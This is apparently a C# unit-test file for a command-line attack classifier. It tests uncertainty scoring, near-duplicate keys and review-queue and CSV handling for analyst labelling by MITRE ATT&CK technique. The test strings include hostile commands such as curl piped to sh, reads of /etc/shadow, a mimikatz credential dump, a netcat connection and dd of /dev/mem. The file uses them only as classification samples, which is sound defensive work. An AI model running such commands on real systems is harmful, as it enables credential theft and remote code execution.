using AttackClassifier.Calibration;
using AttackClassifier.Classification;
using AttackClassifier.Data;
using AttackClassifier.Kernels;
using AttackClassifier.Randomness;
using AttackClassifier.Review;
using AttackClassifier.Telemetry;

namespace AttackClassifier.Tests.Review;

/// <summary>A classifier that answers fixed probabilities per command (by the command's first word), for exact rankings.</summary>
internal sealed class FixedClassifier(IReadOnlyList<string> labels, Func<string, double[]> probabilities) : IAttackClassifier
{
    public IReadOnlyList<string> Labels => labels;
    public ModelCalibration Calibration => ModelCalibration.None;
    public void PredictProbabilities(string commandLine, Span<double> p) => probabilities(commandLine).CopyTo(p);
    public IAttackClassifier WithCalibration(ModelCalibration calibration) => this;
}

public class UncertaintyTests
{
    [Fact]
    public void Scores_match_hand_computed_values()
    {
        double[] p = [0.5, 0.3, 0.2];
        Assert.Equal(1 - (0.5 - 0.3), Uncertainty.Score(SelectionStrategy.Margin, p), 1e-15);
        // H = −(0.5 ln 0.5 + 0.3 ln 0.3 + 0.2 ln 0.2) = 0.346574 + 0.361192 + 0.321888
        Assert.Equal(1.0296530140645737, Uncertainty.Score(SelectionStrategy.Entropy, p), 1e-12);
        Assert.Equal(0.5, Uncertainty.Score(SelectionStrategy.LeastConfident, p), 1e-15);
        // 0 ln 0 = 0: a zero class adds nothing. H([0.6, 0.4, 0]) = 0.306495 + 0.366516
        Assert.Equal(0.6730116670092565, Uncertainty.Score(SelectionStrategy.Entropy, [0.6, 0.4, 0.0]), 1e-12);
        Assert.Equal(Math.Log(4), Uncertainty.Score(SelectionStrategy.Entropy, [0.25, 0.25, 0.25, 0.25]), 1e-15);
        Assert.Equal(1.0, Uncertainty.Score(SelectionStrategy.Margin, [0.4, 0.4, 0.2]), 1e-15);   // a tied top: margin 0
        Assert.Throws<ArgumentOutOfRangeException>(() => Uncertainty.Score(SelectionStrategy.Random, p));
    }

    [Theory]
    [InlineData(SelectionStrategy.Margin, "b c a")]          // margins: a 0.85, b 0.05, c 0.10
    [InlineData(SelectionStrategy.Entropy, "c b a")]         // H: a 0.394, b 0.856, c 1.089
    [InlineData(SelectionStrategy.LeastConfident, "c b a")]  // 1 − p₁: a 0.1, b 0.5, c 0.6
    public void Queue_order_follows_the_strategy(SelectionStrategy strategy, string expected)
    {
        var p = new Dictionary<string, double[]> { ["a"] = [0.9, 0.05, 0.05], ["b"] = [0.5, 0.45, 0.05], ["c"] = [0.4, 0.3, 0.3] };
        var classifier = new FixedClassifier(["x", "y", "z"], c => p[c.Split(' ')[0]]);
        var queue = ReviewQueue.Select(classifier, ["a run", "b run", "c run"], new ReviewQueueOptions { Budget = 3, Strategy = strategy });
        Assert.Equal(expected, string.Join(' ', queue.Select(q => q.CommandLine[..1])));
        Assert.True(queue.Zip(queue.Skip(1)).All(pair => pair.First.Uncertainty >= pair.Second.Uncertainty));
    }
}

public class NearDuplicateKeyTests
{
    [Theory]
    [InlineData("ping -c 4 10.0.0.5", "ping -c 9 192.168.1.77")]
    [InlineData("kill -9 4242", "kill  -9   17")]
    [InlineData("cat /tmp/tmp.Xy7aB9qk/out.txt", "cat /tmp/tmp.Qq1aZ8rt/out.txt")]
    [InlineData("cp payload /tmp/a8Fj2k", "cp payload /tmp/zz9Q1")]
    [InlineData("ls /home/alice/.ssh", "ls /home/bob/.ssh")]
    [InlineData(@"dir C:\Users\alice\Desktop", @"dir C:\Users\bob\Desktop")]
    [InlineData("echo 3f2a9c01d4e5 | xxd", "echo 9b8c7d6e5f40 | xxd")]
    [InlineData("dd if=/dev/mem skip=0x7ffe0000", "dd if=/dev/mem skip=0xABCD")]
    [InlineData("rundll32 {0f8fad5b-d9cb-469f-a165-70867728950e}", "rundll32 {7c9e6679-7425-40de-944b-e07fc1f90ae7}")]
    [InlineData("\"C:\\Windows\\System32\\cmd.exe\" /c whoami", "C:\\Windows\\System32\\cmd.exe /c whoami")]   // the normaliser's cleaning
    public void Commands_that_differ_in_run_specific_parts_share_a_key(string a, string b)
        => Assert.Equal(NearDuplicateKey.Of(a), NearDuplicateKey.Of(b));

    [Theory]
    [InlineData("cat /etc/passwd", "cat /etc/shadow")]
    [InlineData("curl http://10.0.0.5/a.sh | sh", "wget http://10.0.0.5/a.sh")]
    [InlineData("echo deadbeef", "echo cafebabe")]   // hex-looking words without a digit stay words
    [InlineData("Get-Process", "get-process")]       // case is kept
    public void Different_commands_keep_different_keys(string a, string b)
        => Assert.NotEqual(NearDuplicateKey.Of(a), NearDuplicateKey.Of(b));

    [Fact]
    public void Placeholders_are_named()
    {
        Assert.Equal("ping -c <n> <ip>", NearDuplicateKey.Of("ping -c 4 10.0.0.5"));
        Assert.Equal("nc <ip>:<n>", NearDuplicateKey.Of("nc 10.1.2.3:4444"));
        Assert.Equal("cat /tmp/<name>", NearDuplicateKey.Of("cat /tmp/x8Yz"));
        Assert.Equal("ls /home/<user>/.ssh", NearDuplicateKey.Of("ls /home/alice/.ssh"));
        Assert.Equal("echo <hex>", NearDuplicateKey.Of("echo 0xdeadbeef"));
        Assert.Equal("python<n> -V", NearDuplicateKey.Of("python3 -V"));
    }
}

public class ReviewQueueTests
{
    private static readonly string[] Labels = ["T1003: OS Credential Dumping", "T1059: Command and Scripting Interpreter", "Normal"];

    // Probability of the top class falls with the command's first digit: "… 1" is sure, "… 9" is unsure.
    private static FixedClassifier ByDigit() => new(Labels, c =>
    {
        int d = c.LastOrDefault(char.IsDigit) is char ch and >= '0' and <= '9' ? ch - '0' : 0;
        double p1 = 0.95 - 0.06 * d;
        return [p1, (1 - p1) * 0.7, (1 - p1) * 0.3];
    });

    [Fact]
    public void Near_duplicates_collapse_into_one_row_counted_as_occurrences()
    {
        string[] input = ["ping -c 1 10.0.0.1", "whoami", "ping -c 2 10.0.0.9", "", "ping -c 3 10.0.0.7", "whoami"];
        var queue = ReviewQueue.Select(ByDigit(), input, new ReviewQueueOptions { Budget = 10, Strategy = SelectionStrategy.LeastConfident });
        Assert.Equal(2, queue.Count);
        ReviewItem ping = queue.Single(q => q.CommandLine.StartsWith("ping", StringComparison.Ordinal));
        Assert.Equal(3, ping.Occurrences);
        Assert.Equal("ping -c 1 10.0.0.1", ping.CommandLine);   // the first occurrence represents the group
        Assert.Equal(0, ping.FirstIndex);
        Assert.Equal("ping -c <n> <ip>", ping.Normalized);
        Assert.Equal(2, queue.Single(q => q.CommandLine == "whoami").Occurrences);
        Assert.Equal(3, ping.Prediction.Top.Count);
    }

    [Fact]
    public void Budget_caps_the_queue_and_telemetry_errors_are_skipped()
    {
        var records = Enumerable.Range(0, 10).Select(i => new TelemetryRecord { LineNumber = i + 1, CommandLine = $"tool{(char)('a' + i)} {i}" })
            .Append(new TelemetryRecord { LineNumber = 11, Error = "empty command" });
        var queue = ReviewQueue.Select(ByDigit(), records, new ReviewQueueOptions { Budget = 4, Strategy = SelectionStrategy.LeastConfident });
        Assert.Equal(["toolj 9", "tooli 8", "toolh 7", "toolg 6"], queue.Select(q => q.CommandLine));
        Assert.Throws<ArgumentOutOfRangeException>(() => ReviewQueue.Select(ByDigit(), ["a"], new ReviewQueueOptions { Budget = 0 }));
    }

    [Fact]
    public void Random_order_is_reproducible_from_the_seed()
    {
        string[] input = Enumerable.Range(0, 40).Select(i => $"cmd{(char)('a' + i % 26)}{(char)('a' + i / 26)} x").ToArray();
        IReadOnlyList<string> Run(int seed) => ReviewQueue.Select(ByDigit(), input, new ReviewQueueOptions { Budget = 10, Strategy = SelectionStrategy.Random, Seed = seed })
            .Select(q => q.CommandLine).ToArray();
        Assert.Equal(Run(7), Run(7));
        Assert.NotEqual(Run(7), Run(8));
        Assert.Equal(10, Run(7).Distinct().Count());
    }

    [Fact]
    public void Diversity_takes_one_command_per_cluster_instead_of_the_top_of_one_cluster()
    {
        // Twelve very uncertain variants of one tool (each distinct after normalisation: letters differ) and three
        // less uncertain, unrelated commands. Without diversity the budget of 3 goes to the tool's variants.
        string[] variants = Enumerable.Range(0, 12).Select(i => $"mimikatz.exe privilege::debug sekurlsa::logonpasswords token::elevate lsadump::sam exit {(char)('a' + i)} 9").ToArray();
        string[] others = ["systemctl list-units --type=service 5", "crontab -l -u root 5", "iptables -L INPUT -n -v 5"];
        var options = new ReviewQueueOptions { Budget = 3, Strategy = SelectionStrategy.LeastConfident, CandidatesPerSlot = 5 };
        var plain = ReviewQueue.Select(ByDigit(), [.. variants, .. others], options);
        Assert.All(plain, q => Assert.StartsWith("mimikatz", q.CommandLine, StringComparison.Ordinal));
        for (int seed = 1; seed <= 5; seed++)
        {
            var diverse = ReviewQueue.Select(ByDigit(), [.. variants, .. others], options with { Diversity = true, Seed = seed });
            Assert.Equal(3, diverse.Count);
            Assert.Single(diverse, q => q.CommandLine.StartsWith("mimikatz", StringComparison.Ordinal));
            Assert.Equal(3, diverse.Select(q => q.Cluster).Distinct().Count());
        }
        object Run() => ReviewQueue.Select(ByDigit(), [.. variants, .. others], options with { Diversity = true }).Select(q => (q.CommandLine, q.Cluster)).ToArray();
        Assert.Equal(Run(), Run());   // seeded
    }

    [Fact]
    public void KMeans_separates_well_separated_groups_and_stops_at_the_distinct_rows()
    {
        // Rows on three axes (unit vectors), four copies each with small perturbations.
        var rows = new List<(int[], double[])>();
        for (int g = 0; g < 3; g++)
            for (int i = 0; i < 4; i++) rows.Add(([2 * g, 2 * g + 1], [Math.Sqrt(1 - 0.01 * i * i), 0.1 * i]));
        CsrMatrix x = Csr(rows, 6);
        int[] a = KMeans.Cluster(x, 3, new SeededRandom(1));
        for (int g = 0; g < 3; g++) Assert.Single(a.Skip(4 * g).Take(4).Distinct());
        Assert.Equal(3, a.Distinct().Count());
        // Two distinct rows, k = 5: two clusters.
        Assert.Equal(2, KMeans.Cluster(Csr([([0], [1.0]), ([0], [1.0]), ([1], [1.0])], 2), 5, new SeededRandom(1)).Distinct().Count());
    }

    private static CsrMatrix Csr(IReadOnlyList<(int[] Columns, double[] Values)> rows, int d)
    {
        var start = new int[rows.Count + 1];
        for (int n = 0; n < rows.Count; n++) start[n + 1] = start[n] + rows[n].Columns.Length;
        return new CsrMatrix(rows.Count, d, start, rows.SelectMany(r => r.Columns).ToArray(), rows.SelectMany(r => r.Values).ToArray());
    }
}

public class ReviewCsvTests
{
    private static readonly string[] Labels = ["T1003: OS Credential Dumping", "T1059: Command and Scripting Interpreter", "Normal"];

    [Fact]
    public void Queue_csv_has_the_training_columns_then_the_review_columns_and_reads_back_once_filled()
    {
        var classifier = new FixedClassifier(Labels, _ => [0.6, 0.3, 0.1]);
        var queue = ReviewQueue.Select(classifier, ["cat /etc/shadow", "echo \"a,b\"", "cat /etc/shadow"], new ReviewQueueOptions { Budget = 5 });
        var text = new StringWriter();
        ReviewCsv.Write(text, queue);
        string[] lines = text.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("proctitle,technique,technique_grouped,count,predicted,probability,top3,occurrences,normalized", lines[0]);
        Assert.Equal("cat /etc/shadow,,,2,T1003: OS Credential Dumping,0.6000,T1003: OS Credential Dumping (0.6000) | T1059: Command and Scripting Interpreter (0.3000) | Normal (0.1000),2,cat /etc/shadow", lines[1]);
        Assert.StartsWith("\"echo \"\"a,b\"\"\",,,1,", lines[2], StringComparison.Ordinal);

        // The analyst labels the first row only, and adds a command that was never in the queue.
        string path = Path.GetTempFileName();
        try
        {
            File.WriteAllText(path, lines[0] + "\n" + lines[1].Replace(",,,2,", ",,T1003: OS Credential Dumping,2,", StringComparison.Ordinal) + "\n" + lines[2] + "\n"
                                    + "\"curl x | sh\",,T1105: Ingress Tool Transfer,1,,,,,\n");
            CommandDataset data = ReviewCsv.ReadLabelled(path, Labels);
            Assert.Equal([("cat /etc/shadow", "T1003: OS Credential Dumping", 2.0), ("curl x | sh", "T1105: Ingress Tool Transfer", 1.0)],
                         data.Records.Select(r => (r.CommandLine, r.Label, r.Count)));
            Assert.Equal(1, data.SkippedRows);   // the row left unlabelled
        }
        finally { File.Delete(path); }
    }

    [Theory]
    [InlineData("proctitle,technique_grouped,count,verdict\nwhoami,Normal,1,ok\n", ":1: field 'verdict': unknown column")]
    [InlineData("proctitle,technique_grouped,count\nwhoami,Normal,1\nls,Benign,1\n", ":3: field 'technique_grouped': 'Benign' names the model's benign class in other words; write 'Normal'")]
    [InlineData("proctitle,technique_grouped,count\nbash -c id,T1059.004: Unix Shell,1\n", ":2: field 'technique_grouped': 'T1059.004: Unix Shell' is a sub-technique, but the model's classes are parent techniques")]
    [InlineData("proctitle,technique_grouped,count\nmimikatz,T1003,1\n", ":2: field 'technique_grouped': 'T1003' names the model's class 'T1003: OS Credential Dumping' in other words")]
    [InlineData("proctitle,technique_grouped,count\ncurl x,T1105,1\n", ":2: field 'technique_grouped': 'T1105' has no technique name, unlike the model's classes; write 'T1105: Ingress Tool Transfer'")]
    public void Labels_in_another_schema_and_unknown_columns_name_file_line_and_field(string csv, string expected)
    {
        string path = Path.GetTempFileName();
        try
        {
            File.WriteAllText(path, csv);
            var e = Assert.Throws<DatasetFormatException>(() => ReviewCsv.ReadLabelled(path, Labels));
            Assert.StartsWith(path + expected, e.Message, StringComparison.Ordinal);
        }
        finally { File.Delete(path); }
    }
}
